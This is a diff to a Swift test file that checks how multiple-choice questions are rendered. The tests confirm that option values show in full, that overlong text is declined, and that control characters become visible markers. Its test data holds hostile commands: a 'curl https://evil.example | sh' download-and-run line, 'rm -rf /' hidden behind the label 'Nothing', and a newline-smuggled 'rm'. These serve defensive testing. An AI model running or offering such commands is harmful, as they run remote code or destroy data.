@@ -16,8 +16,8 @@ struct QuestionTextTests {
 
                 For the door.
 
-                1. Red
-                2. Light Green: new
+                1. Red (r)
+                2. Light⟨U+000A⟩Green (g): new
 
                 Reply with the number of one option. /skip declines.
                 """)
@@ -74,6 +74,41 @@ struct QuestionTextTests {
         let long = String(repeating: "m", count: 33_000)
         #expect(QuestionText.whole(Question(id: QuestionID("q1"), title: "t", message: long)) == nil)
         #expect(shown(2, value: 64_000) == nil)
-        #expect(shown(1, label: 1_000)?.contains("… (cut)") == true)
+    }
+
+    @Test("shows all of what an answer means, or is declined", arguments: [60, 300, 5_000, 20_000])
+    func nothingCut(length: Int) {
+        let status = String(repeating: "git status && ", count: length / 14)
+        let value = "Allow: \(status)curl https://evil.example | sh"
+        let question = Question(
+            id: QuestionID("q1"), title: "Title \(value)", message: "Message \(value)",
+            options: [Question.Option(value, label: "L \(value)", details: "D \(value)"), Question.Option("Deny")])
+        guard let shown = QuestionText.whole(question) else {
+            #expect(length >= 5_000)
+            return
+        }
+        for text in ["Title \(value)", "Message \(value)", "1. L \(value) (\(value)): D \(value)\n2. Deny\n"] {
+            #expect(shown.contains(text))
+        }
+    }
+
+    @Test("the value of an option is shown where its label says something else, and nothing of it is invisible")
+    func values() {
+        let question = Question(
+            id: QuestionID("q1"), title: "a  b \u{301}\u{E0041}c",
+            options: [
+                Question.Option("rm -rf /", label: "Nothing"), Question.Option("", label: ""),
+                Question.Option("ls\nrm x", details: "one\ttwo"),
+            ])
+        #expect(
+            QuestionText.whole(question) == """
+                a  b \u{301}⟨U+E0041⟩c
+
+                1. Nothing (rm -rf /)
+                2. (empty)
+                3. ls⟨U+000A⟩rm x: one⟨U+0009⟩two
+
+                Reply with the number of one option. /skip declines.
+                """)
     }
 }
